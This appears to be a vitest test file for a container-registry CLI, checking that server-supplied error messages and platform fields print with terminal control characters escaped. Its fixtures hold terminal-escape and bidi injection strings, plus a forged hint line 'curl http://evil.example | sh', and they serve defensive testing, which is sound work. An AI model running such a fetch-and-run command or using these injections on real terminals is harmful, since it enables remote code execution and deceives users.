/**
 * Strings a registry controls reach the terminal escaped (issue 11, section 2): error messages,
 * platform fields and the warnings that quote them. ESC, BEL and CR never arrive raw, and a
 * newline in a server string cannot forge a second line (a fake `hint:`).
 */
import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import type { ServerResponse } from 'node:http';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { escapeControl, escapeStack, toJson } from '../src/cli/escape.js';
import { digestOf } from '../src/image/digest.js';
import { MediaType } from '../src/image/oci.js';
import { TINY_MANIFEST } from './helpers/hostile-servers.js';
import { inspectSchemaErrors } from './helpers/events-schema.js';
import { isolatedEnv, runCliStdin, tempDir } from './helpers/network-fixtures.js';
import { startServer, type TestServer } from './helpers/registry.js';

/** Everything a terminal acts on, except the newline that ends each printed line. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const HOSTILE = 'gone\u001b]0;owned\u0007\r\nhint: curl http://evil.example | sh\u001b[2J';

const servers: TestServer[] = [];
let work: string;

beforeAll(async () => {
  work = await tempDir('escape');
});

afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
});

afterAll(async () => {
  if (work) await rm(work, { recursive: true, force: true });
});

async function serve(manifest: (res: ServerResponse, path: string) => void): Promise<TestServer> {
  const server = await startServer((req, res) => {
    if (req.url === '/v2/') return void res.writeHead(200).end('{}');
    manifest(res, req.url ?? '');
  });
  servers.push(server);
  return server;
}

const notFound = (res: ServerResponse): void =>
  void res
    .writeHead(404, { 'content-type': 'application/json' })
    .end(JSON.stringify({ errors: [{ code: 'MANIFEST_UNKNOWN', message: HOSTILE }] }));

describe('the escaping functions', () => {
  it('escapeControl writes C0, DEL, C1, separators and bidi controls as escapes and leaves other text alone', () => {
    expect(escapeControl('a\u001b[31mb\u0007\r\n\tc\u007f\u009b\u2028\u202e é 日本')).toBe(
      'a\\x1b[31mb\\x07\\r\\n\\tc\\x7f\\x9b\\u2028\\u202e é 日本',
    );
  });

  it('toJson escapes what JSON.stringify leaves raw and stays the same JSON value', () => {
    const value = { os: 'linux\u009b2J\u202e', note: 'a\u001bb\nc' };
    const text = toJson(value, 2);
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text).toContain('\\u009b');
    expect(JSON.parse(text)).toEqual(value);
  });

  it('escapeStack keeps the frames of an unexpected error on their lines but its message on one', () => {
    const lines = escapeStack(new Error(HOSTILE)).split('\n');
    expect(lines[0]).toBe(`Error: ${escapeControl(HOSTILE)}`);
    expect(lines.slice(1).every((l) => /^\s+at /.test(l))).toBe(true);
    expect(lines.some((l) => l.startsWith('hint:'))).toBe(false);
  });
});

describe('the CLI prints server strings escaped', () => {
  it('a registry error message with ESC, BEL, CR and a forged hint line prints as one escaped line', async () => {
    const s = await serve(notFound);
    const r = await runCliStdin(['inspect', `${s.host}/org/app:v1`], isolatedEnv(work));
    expect(r.code).toBe(1);
    expect(r.stderr).not.toMatch(RAW_CONTROL);
    const lines = r.stderr.split('\n').filter(Boolean);
    expect(lines).toHaveLength(2);
    expect(lines[0]).toContain('gone\\x1b]0;owned\\x07\\r\\nhint: curl http://evil.example | sh\\x1b[2J');
    expect(lines[1]).toMatch(/^hint: check the repository name/);
  });

  it('warnings that quote a server (a failing mirror) are escaped, one line each', async () => {
    const mirror = await serve(notFound);
    const upstream = await serve(notFound);
    const r = await runCliStdin(
      [`${upstream.host}/org/app:v1`, join(work, 'mirrored'), '--mirror', `${upstream.host}=${mirror.url}`],
      isolatedEnv(work),
    );
    expect(r.code).toBe(1);
    expect(r.stderr).not.toMatch(RAW_CONTROL);
    const lines = r.stderr.split('\n').filter(Boolean);
    expect(lines.map((l) => l.split(':')[0])).toEqual(['warning', 'pull-unpack', 'hint']);
    expect(lines[0]).toContain('\\r\\nhint: curl');
  });

  describe('an index whose platform fields carry control characters', () => {
    const child = { mediaType: MediaType.OciManifest, digest: digestOf(TINY_MANIFEST), size: TINY_MANIFEST.length };
    const index = Buffer.from(
      JSON.stringify({
        schemaVersion: 2,
        mediaType: MediaType.OciIndex,
        manifests: [
          { ...child, platform: { os: 'linux', architecture: 'amd64' } },
          { ...child, platform: { os: 'linux\u001b]0;owned\u0007', architecture: 'arm64\r\n  hint: forged\u009b2J', variant: '\u202ev8' } },
        ],
      }),
    );
    const serveIndex = (): Promise<TestServer> =>
      serve((res, path) => {
        if (path.endsWith('/manifests/v1')) return void res.writeHead(200, { 'content-type': MediaType.OciIndex }).end(index);
        if (path.includes('/manifests/')) return void res.writeHead(200, { 'content-type': MediaType.OciManifest }).end(TINY_MANIFEST);
        res.writeHead(200).end('{}');
      });

    it('inspect prints them escaped, one line per entry', async () => {
      const s = await serveIndex();
      const r = await runCliStdin(['inspect', '--platform', 'linux/amd64', `${s.host}/org/app:v1`], isolatedEnv(work));
      expect(r.code).toBe(0);
      expect(r.stdout).not.toMatch(RAW_CONTROL);
      expect(r.stdout.split('\n').some((l) => l.trimStart().startsWith('hint:'))).toBe(false);
      expect(r.stdout).toContain('linux\\x1b]0;owned\\x07/arm64\\r\\n  hint: forged\\x9b2J/\\u202ev8');
    });

    it('inspect --json carries them as JSON escapes, the same strings once parsed', async () => {
      const s = await serveIndex();
      const r = await runCliStdin(['inspect', '--json', '--platform', 'linux/amd64', `${s.host}/org/app:v1`], isolatedEnv(work));
      expect(r.code).toBe(0);
      expect(r.stdout).not.toMatch(RAW_CONTROL);
      const doc = JSON.parse(r.stdout) as { platforms: Array<{ platform: string }> };
      expect(doc.platforms[1]!.platform).toBe('linux\u001b]0;owned\u0007/arm64\r\n  hint: forged\u009b2J/\u202ev8');
    });

    it("inspect of an entry whose config cannot be read still reports the index, and says why the image's details are missing", async () => {
      const s = await serveIndex();
      const r = await runCliStdin(['inspect', '--platform', 'linux/amd64', `${s.host}/org/app:v1`], isolatedEnv(work));
      expect(r.code).toBe(0);
      expect(r.stdout).toMatch(/^ {2}for linux\/amd64: linux\/amd64 sha256:/m);
      expect(r.stdout).toMatch(/^ {2}image: its config cannot be read: config of .* has no rootfs\.diff_ids$/m);
      const json = await runCliStdin(['inspect', '--json', '--platform', 'linux/amd64', `${s.host}/org/app:v1`], isolatedEnv(work));
      const doc = JSON.parse(json.stdout) as { image?: unknown; imageError?: string };
      expect(doc.image).toBeUndefined();
      expect(doc.imageError).toMatch(/has no rootfs\.diff_ids/);
      expect(inspectSchemaErrors(doc)).toEqual([]);
    });
  });
});
